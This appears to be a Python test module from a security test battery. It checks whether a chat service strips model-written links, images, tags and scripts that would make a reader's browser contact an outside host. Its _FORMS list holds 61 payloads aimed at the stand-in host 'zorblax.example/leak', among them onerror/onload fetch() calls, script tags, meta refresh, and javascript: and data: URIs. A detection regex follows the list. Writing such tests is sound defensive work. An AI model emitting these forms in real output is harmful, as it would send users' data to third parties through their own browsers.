"""P2: what a model may write to have a reader's machine call home, through every form of the service.

The chat page renders the same texts; its own tests drive a browser.
"""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from random import Random

import serving
from model_server import ModelServer, facts_in, listening
from serving import kitchen_app

from battery.endpoint_faults import Trusting, opened, told_by
from battery.row import Bench, Row, Trial, Try

_AT = "zorblax.example/leak"
_FORMS = (
    "![x](http://HERE)", "![x](//HERE)", "![x](https://HERE 'title')", "![x][r]\n\n[r]: http://HERE",
    "![][r]\n\n[r]: <http://HERE>", "[x](http://HERE)", "[x](//HERE)", "[x](<http://HERE>)",
    "[x][r]\n\n[r]: http://HERE", "[r]\n\n[r]: http://HERE 'title'", "<http://HERE>", "http://HERE", "HTTPS://HERE",
    "www.HERE", "HERE/index.html", "<img src=http://HERE>", "<img src='//HERE'>",
    "<IMG SRC=x onerror=fetch('http://HERE')>", "<img srcset='http://HERE 2x'>", "<svg onload=fetch('http://HERE')>",
    "<svg><image href='http://HERE'/></svg>", "<svg><use href='http://HERE#x'/></svg>",
    "<style>@import 'http://HERE';</style>", "<p style='background:url(http://HERE)'>x</p>",
    "<link rel=stylesheet href=http://HERE>", "<link rel=preload href=http://HERE>",
    "<iframe src=http://HERE></iframe>", "<embed src=http://HERE>", "<object data=http://HERE></object>",
    "<meta http-equiv=refresh content='0;url=http://HERE'>", "<base href=http://HERE>", "<video src=http://HERE>",
    "<video poster=http://HERE>", "<audio src=http://HERE>", "<source src=http://HERE>", "<track src=http://HERE>",
    "<form action=http://HERE><button>x</button></form>", "<input type=image src=http://HERE>",
    "<a href=http://HERE>x</a>", "<a href='javascript:fetch(\"http://HERE\")'>x</a>",
    "<script src=http://HERE></script>", "<script>fetch('http://HERE')</script>",
    "<details open ontoggle=fetch('http://HERE')>", "<math href=http://HERE>x</math>",
    "<table background=http://HERE>", "<body background=http://HERE>", "<marquee onstart=fetch('http://HERE')>",
    "[x](javascript:alert(1))", "![x](data:image/svg+xml;base64,PHN2Zy8+)", "[x](data:text/html,<script>1</script>)",
    "<a ping=http://HERE href=#>x</a>", "&lt;img src=http://HERE&gt;", "&#60;img src=http://HERE&#62;",
    "!\u200b[x](http://HERE)", "[x]\u200b(http://HERE)", "<!-- --><img src=http://HERE>",
    "<![CDATA[<img src=http://HERE>]]>", "```html\n<img src=http://HERE>\n```", "[1]: http://HERE\n\nSee [1].",
    "[x](http:\\\\HERE)", "[x](ht\ntp://HERE)",
)  # fmt: skip
# What no source of the kitchen holds: the address, or what could lead anywhere without one.
_LIVE = re.compile(r"zorblax|javascript:|data:\w+/|<[a-z/!]|!\[", re.IGNORECASE)
_WAYS = [(route, stream) for route in ("/v1/ask", "/v1/chat/completions", "/v1/responses") for stream in (False, True)]


def draw(chance: Random, number: int) -> list[Trial]:
    """Each form in one of the six ways; where there are more trials, in each of them."""
    if number <= len(_FORMS):
        cases = [(form, chance.choice(_WAYS)) for form in _FORMS]
    else:
        cases = [(form, way) for form in _FORMS for way in _WAYS]
    chance.shuffle(cases)
    return [{"form": f.replace("HERE", _AT), "route": r, "stream": s} for f, (r, s) in cases[:number]]


@contextmanager
def subject(bench: Bench, *, weak: bool) -> Iterator[Try]:
    with listening(ModelServer()) as server:
        assistant = Trusting(server.url) if weak else opened(server)
        with serving.listening(kitchen_app(bench.folder, assistant)) as url:

            def attempt(trial: Trial) -> str | None:
                server.reply = partial(_writing, trial["form"])
                told = told_by(url, trial)
                live = _LIVE.search(told)
                return f"it comes out alive: {told[max(0, live.start() - 80) : live.end() + 80]!a}" if live else None

            yield attempt


def _writing(form: str, _instructions: str, message: str) -> str:
    facts = facts_in(message)
    return f"{facts}\n\nAs they say, {form} holds more. {form}\n\n{facts}"


ROW = Row(
    "P2",
    "a model writes links, images, tags and scripts that would call home, in 61 forms, through JSON and SSE",
    {"change": 61, "nightly": 366},
    draw,
    partial(subject, weak=False),
    partial(subject, weak=True),
    "shows what the model writes",
)
